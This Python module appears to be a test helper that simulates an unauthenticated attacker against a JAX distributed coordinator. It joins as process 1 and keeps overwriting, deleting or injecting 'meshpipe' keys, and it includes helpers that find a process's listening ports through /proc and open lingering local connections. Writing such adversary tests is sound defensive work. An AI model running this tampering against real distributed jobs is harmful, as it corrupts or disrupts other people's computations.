"""Attacks by someone who can open TCP connections to a run but does not have its secret.

As a program: reads the coordinator's address from standard input, joins, and overwrites or deletes every key of the
run, or writes others beside them, until it is ended.
"""

import os
import socket
import sys
import time
from pathlib import Path

PLACE = 1
"""The coordinator accepts any client as the process with this number."""


def main(deed: str) -> None:
    from jax._src.distributed import _jax

    print("ready", flush=True)
    client = _jax.get_distributed_runtime_client(sys.stdin.readline().strip(), PLACE, shutdown_on_destruction=False)
    client.connect()
    touched: set[str] = set()
    while True:
        for name, _ in client.key_value_dir_get("meshpipe"):
            if name not in touched:
                touched.add(name)
                if deed == "overwrite":
                    client.key_value_set(name, "127.0.0.1 1", allow_overwrite=True)
                elif deed == "delete":
                    client.key_value_delete(name)
                else:
                    client.key_value_set(f"{name}0/more", "5 15")
        time.sleep(0.02)


def listening_ports(process: int) -> set[int]:
    """The TCP ports at which a process listens, as Linux shows them to everybody."""
    inodes = set()
    for entry in Path(f"/proc/{process}/fd").iterdir():
        try:
            inodes.add(os.readlink(entry).removeprefix("socket:[").removesuffix("]"))
        except OSError:  # closed in the meantime
            continue
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{process}/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in inodes:
                ports.add(int(fields[1].rpartition(":")[2], 16))
    return ports


def knock(port: int, words: bytes) -> socket.socket:
    """Connects, sends something, and stays connected."""
    connection = socket.create_connection(("127.0.0.1", port), 5)
    connection.sendall(words)
    return connection


if __name__ == "__main__":
    main(sys.argv[1])
